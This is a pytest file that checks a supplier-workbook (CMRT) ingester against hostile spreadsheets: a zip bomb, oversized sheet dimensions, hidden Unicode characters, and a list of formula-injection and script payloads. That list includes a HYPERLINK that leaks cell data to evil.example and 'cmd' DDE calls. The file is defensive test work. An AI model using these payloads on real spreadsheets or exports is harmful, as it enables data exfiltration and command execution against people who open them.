"""Hostile supplier workbooks: each is rejected with its reason or read with its text made
inert, quickly, and the other suppliers' data is kept."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from disclosures.ingest.cmrt import parse_supplier
from disclosures.ingest.workbook import NotACmrt, read_sheets
from scripts.synthetic_cmrt import CmrtSpec, SmelterSpec, write_cmrt

from .test_cmrt import AIDA, run_ingest

HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                "[Refinery](javascript:alert(1)) <script>alert(1)</script> **x** | y", "-2+3"]


def good(folder):
    return write_cmrt(CmrtSpec(company="Good Supplier", smelters=[AIDA]), folder / "good.xlsx")


def far_corner(folder):
    path = write_cmrt(CmrtSpec(company="Far Corner Co", smelters=[AIDA]), folder / "far-corner.xlsx")
    book = load_workbook(path)
    book["Smelter List"]["XFD1048576"] = "z"
    book.save(path)
    return path


def zip_bomb(folder):
    """A real CMRT plus one part that inflates ~1000x to 200 MB (a few hundred KB on disk)."""
    path = good(folder).with_name("bomb.xlsx")
    with zipfile.ZipFile(good(folder)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            bomb.writestr(item, source.read(item.filename))
        with bomb.open("xl/media/padding.bin", "w", force_zip64=True) as part:
            for _ in range(200):
                part.write(b"\0" * 1_000_000)
    return path


def bad_dates(folder):
    return write_cmrt(CmrtSpec(company="Odd Dates Ltd", effective_date=12345, smelters=[AIDA]), folder / "dates.xlsx")


def hostile_text(folder):
    """Every text cell a supplier types holds a formula or Markdown (stored as text, as a
    supplier's '=... or a program writes it)."""
    smelters = [SmelterSpec("Gold", text, "CHINA", option="C") for text in HOSTILE_TEXT]
    path = write_cmrt(CmrtSpec(company=HOSTILE_TEXT[0], smelters=smelters), folder / "formulas.xlsx")
    book = load_workbook(path)
    for sheet in ("Declaration", "Smelter List"):
        for row in book[sheet].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    cell.data_type = "s"
    book.save(path)
    return path


def test_huge_declared_dimensions_are_read_within_bounds_and_told(tmp_path):
    supplier = parse_supplier("far-corner.xlsx", read_sheets(far_corner(tmp_path)))
    assert [line.smelter_id for line in supplier.lines] == ["CID000019"]
    assert any("declares 16,384 columns x 1,048,576 rows; only its first 10,004 rows" in n for n in supplier.notes)


def test_numeric_dates_out_of_range_are_not_dates(tmp_path):
    supplier = parse_supplier("dates.xlsx", read_sheets(bad_dates(tmp_path)))
    assert supplier.declaration.effective_date is None
    assert "effective date '12345' (Declaration D22) is not a date: ask the supplier" in supplier.notes


def test_hostile_workbooks_cost_only_themselves(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for make in (good, far_corner, zip_bomb, bad_dates, hostile_text):
        make(inbox)
    (inbox / "good.xlsx").rename(inbox / "a-good.xlsx")
    result, out, survey, private = run_ingest(tmp_path, inbox)
    assert "5 workbooks: 4 accepted, 1 rejected" in result.stdout, result.stdout + result.stderr
    assert "rejected bomb.xlsx: xl/media/padding.bin inflates to 200,000,000 bytes" in result.stdout
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert {r["smelter_id"] for r in rows if r["smelter_id"]} == {"CID000019"}
    assert next(r for r in rows if r["smelter_id"] == "CID000019")["supplier_count"] == "3"
    # Every formula is inert in every CSV written, and Markdown in the report shows as text.
    names = {r["smelter_name"] for r in rows if not r["smelter_id"]}
    assert names == {"'" + t if t.startswith(("=", "+", "-", "@")) else t for t in HOSTILE_TEXT}
    for path in (out, private / "smelters-with-suppliers.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (path.name, row)
    report = (private / "ingest-report.md").read_text(encoding="utf-8")
    assert "<script>" not in report and "](javascript" not in report and "\\[Refinery\\]" in report
    assert "=HYPERLINK" not in survey.read_text(encoding="utf-8").split("follow_ups")[0]


def broken_lookup(folder, smelters):
    """A workbook whose Smelter Look-up part is not well-formed XML."""
    from disclosures.ingest.workbook import _sheet_parts
    path = write_cmrt(CmrtSpec(company="Broken Look-up Ltd", smelters=smelters), folder / "broken-lookup.xlsx")
    with zipfile.ZipFile(path) as book:
        part = _sheet_parts(book)["Smelter Look-up"]
        members = {item: book.read(item.filename) for item in book.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for item, data in members.items():
            book.writestr(item, b"<worksheet><sheetData><row r='5'><c" if item.filename == part else data)
    return path


def test_a_broken_look_up_costs_only_the_rows_that_need_it(tmp_path):
    """Rows the template's cached values answer never touch the look-up; a row naming a smelter
    "not listed" needs it, and then the workbook is refused with the reason; the command notes
    the look-up it could not read for the merge."""
    answered = parse_supplier("broken-lookup.xlsx", read_sheets(broken_lookup(tmp_path, [AIDA])))
    assert [(x.smelter_id, x.country) for x in answered.lines] == [("CID000019", "JAPAN")] and answered.lookup is None
    not_listed = SmelterSpec("Gold", "Refinery Nobody Lists", "JAPAN", option="C")
    with pytest.raises(NotACmrt, match="unreadable workbook"):
        parse_supplier("broken-lookup.xlsx", read_sheets(broken_lookup(tmp_path, [AIDA, not_listed])))
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    broken_lookup(tmp_path, [AIDA]).rename(inbox / "broken-lookup.xlsx")
    result, out, _, private = run_ingest(tmp_path, inbox)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "CID000019" in out.read_text(encoding="utf-8")
    report = (private / "ingest-report.md").read_text(encoding="utf-8")  # Markdown-escaped
    assert "could not be read \\(unreadable workbook" in report and "its rows were read from their cached values" in report


def test_hidden_code_points_in_the_look_up_or_the_list_never_reach_the_published_list(tmp_path):
    """The Smelter Look-up is supplier text too: its names and countries pass the text gate, as
    the Smelter List's cells do (a zero-width space, a right-to-left override, a private-use mark)."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_cmrt(CmrtSpec(company="Hidden Ltd", smelters=[
        SmelterSpec("Gold", "Aida Chemical\u202e Industries", "JA\u200bPAN", "CID000019"),
        SmelterSpec("Tin", "Tin Works\ue000 of\u2066 Example", "CHI\u200dNA", option="C")]), inbox / "hidden.xlsx")
    result, out, _, _ = run_ingest(tmp_path, inbox)
    assert result.returncode == 0, result.stdout + result.stderr
    published = out.read_text(encoding="utf-8")
    assert "Aida Chemical Industries,JAPAN" in published and "Tin Works of Example,CHINA" in published
    assert not [c for c in published if c in "\u200b\u200d\u202e\u2066\ue000"]
    rmi = tmp_path / "rmi.csv"
    rmi.write_text("Metal,Smelter ID,Standard Smelter Name,Country Location,Assessment Status\n"
                   "Gold,CID000019,Aida\ue000 Chemical\u200b Co.,JA\u2066PAN,Conformant\n", encoding="utf-8")
    result, out, _, _ = run_ingest(tmp_path, inbox, "--rmi-list", str(rmi))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Gold,Aida Chemical Co.,JAPAN,Conformant,CID000019" in out.read_text(encoding="utf-8")
